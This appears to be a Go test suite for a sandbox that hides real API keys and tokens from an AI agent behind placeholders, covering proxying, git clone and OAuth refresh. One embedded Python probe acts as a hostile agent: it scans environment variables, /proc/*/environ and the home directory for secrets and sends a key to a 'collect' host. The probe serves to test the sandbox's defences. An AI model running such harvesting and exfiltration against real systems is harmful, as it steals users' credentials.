package escape

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// The caller's real credentials in the credential tests. The marker in the
// middle is upper-case letters a placeholder replaces at random: an agent
// that finds it holds a real value.
const (
	credMarker    = "REALSECRETMARKER"
	realEnvKey    = "sk-test-api03-" + credMarker + "envkey0123456789abcdefABCDEF"
	realFileToken = "tok_" + credMarker + "filetoken9876543210zyxwvuZYXWVU"
)

// credProbe runs inside the sandbox as a hostile agent: it searches its
// environment, /proc/self/environ, every readable /proc/*/environ and
// cmdline, and its whole home for the marker of a real value; then it
// uses its placeholders against the API (through the proxy, HTTPS) and
// sends them to another host. argv: api port, other port.
const credProbe = `
import json, os, ssl, sys, urllib.request
api, other = sys.argv[1], sys.argv[2]
marker = ("REALSECRET" + "MARKER").encode()
found = []
for k, v in os.environ.items():
    if marker in v.encode(): found.append("env " + k)
for p in ["/proc/self/environ"] + ["/proc/%s/%s" % (d, f) for d in os.listdir("/proc") if d.isdigit() for f in ("environ", "cmdline")]:
    try:
        if marker in open(p, "rb").read(): found.append(p)
    except Exception: pass
for root, dirs, files in os.walk(os.environ["HOME"]):
    for f in files:
        p = os.path.join(root, f)
        try:
            if marker in open(p, "rb").read(1 << 20): found.append(p)
        except Exception: pass
print("FOUND", json.dumps(found))
auth = json.load(open(os.path.join(os.environ["HOME"], ".testagent/auth.json")))
tok = auth["tokens"]["access_token"]
print("FILETOKEN", tok)
print("ENVKEY", os.environ.get("TEST_API_KEY"))
def req(url, hdrs):
    try:
        r = urllib.request.Request(url, headers=hdrs)
        return "OK %d %s" % (200, urllib.request.urlopen(r, timeout=20).read().decode())
    except urllib.error.HTTPError as e:
        return "HTTP %d %s" % (e.code, e.read().decode())
    except Exception as e:
        return "ERR %s" % e
print("API", req("https://127.0.0.1:%s/v1/messages" % api, {"x-api-key": os.environ["TEST_API_KEY"], "Authorization": "Bearer " + tok}))
print("LEAK", req("http://127.0.0.1:%s/collect" % other, {"x-api-key": os.environ["TEST_API_KEY"]}))
print("CAFILE", os.environ.get("SSL_CERT_FILE"))
`

// testCA is a CA standing in for the public roots, and a loopback TLS
// server certificate from it.
func testCA(t *testing.T) (*tls.Certificate, []byte) {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	now := time.Now()
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "fedmem test roots"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ = x509.ParseCertificate(caDER)
	lkey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "127.0.0.1"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, leaf, ca, &lkey.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: lkey}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})
}

// credEnv writes the credential test's profile and the caller's
// credential file; it returns the profile's path.
func credProfile(t *testing.T, e *env, apiPort, otherPort, envSource string) string {
	t.Helper()
	dir := filepath.Join(e.home, ".testagent")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	auth := `{"tokens": {"access_token": "` + realFileToken + `", "account_id": "acct-1"}, "last_refresh": "2026-01-01T00:00:00Z"}`
	if err := os.WriteFile(filepath.Join(dir, "auth.json"), []byte(auth), 0o600); err != nil {
		t.Fatal(err)
	}
	// The agent reads its home as its own uid: the caller's file is the
	// caller's (0600) in the real world; here the agent may be another uid.
	os.Chmod(filepath.Join(dir, "auth.json"), 0o644)
	prof := filepath.Join(e.outDir, "credtest.yaml")
	body := "name: credtest\nextends: default\nnetwork: allowlist\n" +
		"allow: [\"127.0.0.1:" + apiPort + "\", \"127.0.0.1:" + otherPort + "\"]\n" +
		"env:\n  pass: [TEST_*]\n" +
		"credentials:\n" +
		"  - name: test-api-key\n    env: " + envSource + "\n    hosts: [\"127.0.0.1:" + apiPort + "\"]\n    header: x-api-key\n" +
		"  - name: test-file-token\n    file: ~/.testagent/auth.json\n    path: tokens.access_token\n    hosts: [\"127.0.0.1:" + apiPort + "\"]\n    header: \"Authorization: Bearer\"\n"
	if err := os.WriteFile(prof, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return prof
}

// TestCredentialsNeverInside (guarantee 8): the caller's API key (an
// environment variable, and a copy of it in another variable) and login
// token (a JSON file in the home) are nowhere the agent can read — its
// environment, /proc, its home — while its HTTPS request through the
// proxy reaches the API with the real values; the placeholder sent to
// another host is refused and the event names the credential.
func TestCredentialsNeverInside(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	leaf, caPEM := testCA(t)
	var mu sync.Mutex
	var gotKey, gotAuth string
	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		gotKey, gotAuth = r.Header.Get("X-Api-Key"), r.Header.Get("Authorization")
		mu.Unlock()
		io.WriteString(w, "model reply")
	}))
	api.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	api.StartTLS()
	defer api.Close()
	var otherHits atomic.Int64
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		io.WriteString(w, "collected")
	}))
	defer other.Close()
	_, apiPort, _ := net.SplitHostPort(api.Listener.Addr().String())
	_, otherPort, _ := net.SplitHostPort(other.Listener.Addr().String())
	roots := filepath.Join(e.outDir, "test-roots.pem")
	if err := os.WriteFile(roots, caPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	prof := credProfile(t, e, apiPort, otherPort, "TEST_API_KEY")
	evs := filepath.Join(e.outDir, "events.jsonl")
	before, _ := filepath.Glob("/var/tmp/fedmem-cred-*")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := e.command(ctx, "", []string{"--profile", prof, "--events", evs}, "python3", "-c", credProbe, apiPort, otherPort)
	// The caller: its key, a copy of it in another variable, and the
	// test roots standing in for the system's (the helper verifies the
	// API's certificate against them).
	cmd.Env = append(cmd.Env, "TEST_API_KEY="+realEnvKey, "TEST_KEY_COPY=x"+realEnvKey, "SSL_CERT_FILE="+roots)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	err := cmd.Run()
	out := map[string]string{}
	for _, l := range strings.Split(so.String(), "\n") {
		k, v, _ := strings.Cut(l, " ")
		out[k] = v
	}
	t.Logf("probe (exit %v):\n%s\nstderr:\n%s", err, so.String(), se.String())
	if err != nil {
		t.Fatalf("fedmem-run: %v", err)
	}
	if out["FOUND"] != "[]" {
		t.Errorf("the agent found a real credential: %s", out["FOUND"])
	}
	if strings.Contains(so.String(), credMarker) {
		t.Errorf("a real credential reached the agent's output")
	}
	if !strings.HasPrefix(out["ENVKEY"], "sk-test-api03-") || len(out["ENVKEY"]) != len(realEnvKey) || out["ENVKEY"] == realEnvKey {
		t.Errorf("TEST_API_KEY inside is %q: want a placeholder of the real key's shape", out["ENVKEY"])
	}
	if !strings.HasPrefix(out["FILETOKEN"], "tok_") || len(out["FILETOKEN"]) != len(realFileToken) {
		t.Errorf("the file's token inside is %q: want a placeholder of the real one's shape", out["FILETOKEN"])
	}
	if !strings.HasPrefix(out["API"], "OK 200 model reply") {
		t.Errorf("API request: %q", out["API"])
	}
	mu.Lock()
	if gotKey != realEnvKey || gotAuth != "Bearer "+realFileToken {
		t.Errorf("the API received x-api-key %q and Authorization %q: want the real values", gotKey, gotAuth)
	}
	mu.Unlock()
	if !strings.HasPrefix(out["LEAK"], "HTTP 403") || otherHits.Load() != 0 {
		t.Errorf("the placeholder sent to another host: %q (%d request(s) reached it)", out["LEAK"], otherHits.Load())
	}
	if !strings.Contains(se.String(), "fedmem-run: credentials: placeholders sent where they may not go were refused: test-api-key ×1") {
		t.Errorf("no summary of the refused placeholder after the session on stderr")
	}
	ce := eventsOf(t, evs, "credential")
	if len(ce) == 0 || ce[0]["credential"] != "test-api-key" || ce[0]["allowed"] != false {
		t.Errorf("credential events: %v; want a refusal naming test-api-key", ce)
	}
	// This session's own folder (fedmem-cred-SESSION-*): other packages'
	// sessions run at the same time and make theirs.
	starts := eventsOf(t, evs, "start")
	if len(starts) == 0 || starts[0]["session"] == "" {
		t.Fatalf("no start event naming the session in %s", evs)
	}
	id, _ := starts[0]["session"].(string)
	after, _ := filepath.Glob("/var/tmp/fedmem-cred-" + id + "-*")
	for _, d := range after {
		if !slices.Contains(before, d) {
			t.Errorf("the session's credential directory %s is left behind", d)
		}
	}
}

// TestCredentialSourceMissing: a credential whose source is not there
// refuses the session (125) with the profile's file and line; the agent
// never runs.
func TestCredentialSourceMissing(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	prof := credProfile(t, e, "1", "2", "TEST_NOT_SET")
	marker := filepath.Join(e.outDir, "ran")
	r := e.run(t, []string{"--profile", prof}, "touch", marker)
	if r.code != 125 {
		t.Fatalf("exit %d, want 125\n%s", r.code, r.stderr)
	}
	if !strings.Contains(string(r.stderr), prof+":8") || !strings.Contains(string(r.stderr), "TEST_NOT_SET is not set") {
		t.Errorf("stderr does not name the profile line and the variable:\n%s", r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the agent ran")
	}
}

// TestCredentialGitClone: `git clone` over HTTPS from a loopback git
// server (git http-backend, basic auth) authenticates with the real token
// through a placeholder: Git asks fedmem's credential helper, which hands
// out the placeholder as the password; the proxy puts the real one on the
// wire. The agent never sees the token.
func TestCredentialGitClone(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	// Git is a hard dependency of the suite (the vault is a repository).
	out, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	httpBackend := filepath.Join(strings.TrimSpace(string(out)), "git-http-backend")
	if _, err := os.Stat(httpBackend); err != nil {
		t.Fatalf("git-http-backend: %v", err)
	}
	repos := filepath.Join(e.base, "repos")
	src := filepath.Join(e.base, "src")
	for _, c := range [][]string{{"init", "-q", "-b", "main", src}, {"-C", src, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "cloned through a placeholder"},
		{"clone", "-q", "--bare", src, filepath.Join(repos, "repo.git")}} {
		if out, err := exec.Command("git", c...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", c, err, out)
		}
	}
	leaf, caPEM := testCA(t)
	var mu sync.Mutex
	var passwords []string
	gitSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, pass, ok := r.BasicAuth()
		mu.Lock()
		if ok {
			passwords = append(passwords, pass)
		}
		mu.Unlock()
		if !ok {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "auth", http.StatusUnauthorized)
			return
		}
		if pass != realGitToken {
			http.Error(w, "bad token", http.StatusForbidden)
			return
		}
		(&cgi.Handler{Path: httpBackend, Env: []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1"}}).ServeHTTP(w, r)
	}))
	gitSrv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	gitSrv.StartTLS()
	defer gitSrv.Close()
	addr := gitSrv.Listener.Addr().String()
	roots := filepath.Join(e.outDir, "test-roots.pem")
	os.WriteFile(roots, caPEM, 0o644)
	prof := filepath.Join(e.outDir, "git.yaml")
	os.WriteFile(prof, []byte("name: gitcred\nextends: default\nnetwork: allowlist\nallow: [\""+addr+"\"]\n"+
		"credentials:\n  - {name: git-token, env: GIT_TOKEN, hosts: [\""+addr+"\"], basic_auth: true}\n"), 0o644)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	script := `cd /tmp && git clone -q https://` + addr + `/repo.git c && git -C c log --format=%s; echo TOKEN=$GIT_TOKEN; env | grep -c "` + credMarker[:10] + `" || true`
	cmd := e.command(ctx, "", []string{"--profile", prof}, "sh", "-c", script)
	cmd.Env = append(cmd.Env, "GIT_TOKEN="+realGitToken, "SSL_CERT_FILE="+roots)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	err = cmd.Run()
	t.Logf("agent (exit %v):\n%s\nstderr:\n%s", err, so.String(), se.String())
	if err != nil || !strings.Contains(so.String(), "cloned through a placeholder") {
		t.Fatalf("git clone through the credential proxy failed")
	}
	if strings.Contains(so.String(), credMarker) || !strings.Contains(so.String(), "TOKEN=ghp_") {
		t.Errorf("the agent's GIT_TOKEN is not a placeholder of the token's shape:\n%s", so.String())
	}
	mu.Lock()
	defer mu.Unlock()
	for _, p := range passwords {
		if p != realGitToken {
			t.Errorf("the git server received the password %q: want the real token only", p)
		}
	}
	if len(passwords) == 0 {
		t.Errorf("the git server received no password")
	}
}

const realGitToken = "ghp_" + credMarker + "gittoken0123456789abcdef"

// TestCredentialFileReplacedOutside: a rename over the credential's source
// file outside during the session (a login or token refresh of the
// unsandboxed tool) detaches the sandbox's cover of it — the kernel
// lazily unmounts mounts on a dentry renamed over in another mount
// namespace — and the agent would read the new real file. fedmem-run ends
// the session when the file is replaced, with a credential event naming
// it. (An agent already waiting on the name may read in between: the
// limit is in docs/threat-model.md.)
func TestCredentialFileReplacedOutside(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	prof := credProfile(t, e, "1", "2", "TEST_API_KEY")
	evs := filepath.Join(e.outDir, "events.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := e.command(ctx, "", []string{"--profile", prof, "--events", evs}, "sh", "-c", "echo READY; exec sleep 100")
	cmd.Env = append(cmd.Env, "TEST_API_KEY="+realEnvKey)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var se bytes.Buffer
	cmd.Stderr = &se
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line := make([]byte, 6)
	if _, err := io.ReadFull(out, line); err != nil || string(line) != "READY\n" {
		t.Fatalf("agent: %q %v\n%s", line, err, se.String())
	}
	auth := filepath.Join(e.home, ".testagent", "auth.json")
	tmp := auth + ".new"
	os.WriteFile(tmp, []byte(`{"tokens": {"access_token": "tok_`+credMarker+`refreshedoutside0123456789"}}`), 0o644)
	if err := os.Rename(tmp, auth); err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, out)
	err = cmd.Wait()
	t.Logf("exit %v\n%s", err, se.String())
	if exitCode(err) == 0 || ctx.Err() != nil {
		t.Fatalf("the session went on after its credential file was replaced outside (exit %v)", err)
	}
	found := false
	for _, m := range eventsOf(t, evs, "credential") {
		found = found || (m["where"] == auth && m["allowed"] == false)
	}
	if !found {
		t.Errorf("no credential event naming %s", auth)
	}
}

// refreshProbe refreshes its OAuth login with the placeholder refresh
// token from its copy of the credentials file, then calls the API with
// its access placeholder and prints the answer after a label. argv: auth
// port, api port, and optionally the API path and the label (default
// /v1/messages, API).
const refreshProbe = `
import json, os, sys, urllib.request
auth, api = sys.argv[1], sys.argv[2]
path, label = (sys.argv[3], sys.argv[4]) if len(sys.argv) > 4 else ("/v1/messages", "API")
c = json.load(open(os.path.join(os.environ["HOME"], ".oauthagent/creds.json")))["oauth"]
def req(url, body=None, hdrs={}):
    try:
        r = urllib.request.Request(url, data=body, headers=hdrs)
        return urllib.request.urlopen(r, timeout=20).read().decode()
    except Exception as e:
        return "ERR %s" % e
ans = req("https://127.0.0.1:%s/token" % auth, json.dumps({"grant_type": "refresh_token", "refresh_token": c["refresh"]}).encode(), {"Content-Type": "application/json"})
print("REFRESH", ans)
tok = json.loads(ans)["access_token"]
print(label, req("https://127.0.0.1:%s%s" % (api, path), None, {"Authorization": "Bearer " + tok}))
`

// TestCredentialRefresh: an OAuth refresh inside works with placeholders:
// the token endpoint receives the real refresh token, the agent gets
// placeholders back (never the new tokens), the API then receives the new
// real access token, and after the session the caller's file holds the
// new real tokens, with its mode kept.
func TestCredentialRefresh(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	const (
		oldA = "sk-ant-oat01-" + credMarker + "oldaccess0123456789abcdefghij"
		oldR = "sk-ant-ort01-" + credMarker + "oldrefresh0123456789abcdefghi"
		newA = "sk-ant-oat01-" + credMarker + "newaccess9876543210zyxwvutsrq"
		newR = "sk-ant-ort01-" + credMarker + "newrefresh9876543210zyxwvutsr"
	)
	leaf, caPEM := testCA(t)
	var mu sync.Mutex
	var authGot, apiGot []string
	authSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req map[string]string
		json.NewDecoder(r.Body).Decode(&req)
		mu.Lock()
		authGot = append(authGot, req["refresh_token"])
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token": "`+newA+`", "refresh_token": "`+newR+`", "expires_in": 3600}`)
	}))
	apiSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		apiGot = append(apiGot, r.Header.Get("Authorization"))
		mu.Unlock()
		io.WriteString(w, "model reply")
	}))
	for _, s := range []*httptest.Server{authSrv, apiSrv} {
		s.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
		s.StartTLS()
		defer s.Close()
	}
	authAddr, apiAddr := authSrv.Listener.Addr().String(), apiSrv.Listener.Addr().String()
	roots := filepath.Join(e.outDir, "test-roots.pem")
	os.WriteFile(roots, caPEM, 0o644)
	dir := filepath.Join(e.home, ".oauthagent")
	os.MkdirAll(dir, 0o755)
	credFile := filepath.Join(dir, "creds.json")
	os.WriteFile(credFile, []byte(`{"oauth": {"access": "`+oldA+`", "refresh": "`+oldR+`", "scopes": ["x"]}}`), 0o644)
	os.Chmod(credFile, 0o644) // the agent (another uid) reads its copy; the mode must survive
	prof := filepath.Join(e.outDir, "oauth.yaml")
	os.WriteFile(prof, []byte("name: oauth\nextends: default\nnetwork: allowlist\nallow: [\""+authAddr+"\", \""+apiAddr+"\"]\ncredentials:\n"+
		"  - {name: oauth-access, file: ~/.oauthagent/creds.json, path: oauth.access, hosts: [\""+apiAddr+"\"], header: \"Authorization: Bearer\", from_response: access_token}\n"+
		"  - {name: oauth-refresh, file: ~/.oauthagent/creds.json, path: oauth.refresh, hosts: [\""+authAddr+"\"], body: true, from_response: refresh_token}\n"), 0o644)
	evs := filepath.Join(e.outDir, "events.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	_, authPort, _ := net.SplitHostPort(authAddr)
	_, apiPort, _ := net.SplitHostPort(apiAddr)
	cmd := e.command(ctx, "", []string{"--profile", prof, "--events", evs}, "python3", "-c", refreshProbe, authPort, apiPort)
	cmd.Env = append(cmd.Env, "SSL_CERT_FILE="+roots)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	err := cmd.Run()
	t.Logf("agent (exit %v):\n%s\nstderr:\n%s", err, so.String(), se.String())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(so.String(), credMarker) {
		t.Errorf("the agent read a real token")
	}
	mu.Lock()
	if len(authGot) != 1 || authGot[0] != oldR || len(apiGot) != 1 || apiGot[0] != "Bearer "+newA {
		t.Errorf("the token endpoint got %q, the API %q: want the real refresh token, then the new real access token", authGot, apiGot)
	}
	mu.Unlock()
	b, _ := os.ReadFile(credFile)
	var doc struct {
		OAuth map[string]any `json:"oauth"`
	}
	json.Unmarshal(b, &doc)
	if doc.OAuth["access"] != newA || doc.OAuth["refresh"] != newR || doc.OAuth["scopes"] == nil {
		t.Errorf("the caller's file after the session: %s", b)
	}
	if st, _ := os.Stat(credFile); st == nil || st.Mode().Perm() != 0o644 {
		t.Errorf("the file's mode changed: %v", st)
	}
	for _, m := range eventsOf(t, evs, "credential") {
		if m["allowed"] != true {
			t.Errorf("a refusal: %v", m)
		}
	}
	if strings.Contains(string(mustRead(t, evs)), credMarker) {
		t.Errorf("a real token reached the events file")
	}
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
